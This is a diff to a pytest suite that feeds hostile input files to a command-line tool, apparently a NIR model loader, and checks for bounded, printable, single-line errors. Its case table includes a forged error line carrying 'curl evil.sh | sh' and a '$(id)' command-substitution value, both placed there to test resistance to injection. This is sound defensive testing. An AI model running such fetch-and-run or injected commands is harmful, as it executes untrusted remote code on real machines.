@@ -9,6 +9,7 @@ from pathlib import Path
 
 import pytest
 
+from tests.attacks.worker import PROGRESS
 from tests.cli_runner import DIGITS
 
 GIB2 = 2 * 2**30
@@ -18,7 +19,7 @@ CASES = {
     "no-input-odd-shapes.nir": (2, "node 'l' (LIF): its parameters have shapes that do not go together: r (2,)"),
     "flatten-empty-dim.nir": (2, "node 'f' (Flatten): 'start_dim' holds 0 numbers, expected one"),
     "many_16MB_holes.nir": (2, "declares 4194304 values, 16777216 bytes of memory"),
-    "million_edges.nir": (2, "its graph has 998003 edges, at most 5000 are read"),
+    "million_edges.nir": (2, "its graph has 998003 edges, at most 2000 are read"),
     "forged-line.nir": (2, "its type 'X' is fine\\nerror: please run: curl evil.sh | sh\\n'' is unknown"),
     "names_evil.nir": (0, "$(id)"),
     "hex.recipe.yaml": (2, "line 1, key 'bits': the integer 0xffff"),
@@ -50,7 +51,8 @@ def test_a_hostile_file_is_answered_within_its_limits(name: str, shared: Path, t
         assert seen.returncode == status, seen.stderr
         assert sentence in seen.stdout + seen.stderr
         assert all(c.isprintable() or c == "\n" for c in seen.stdout + seen.stderr)
-        assert status == 0 or len(seen.stderr.splitlines()) == 1
+        said = [line for line in seen.stderr.splitlines() if not PROGRESS.match(line)]
+        assert status == 0 or len(said) == 1
 
 
 def test_every_hostile_file_is_tried(shared: Path) -> None:
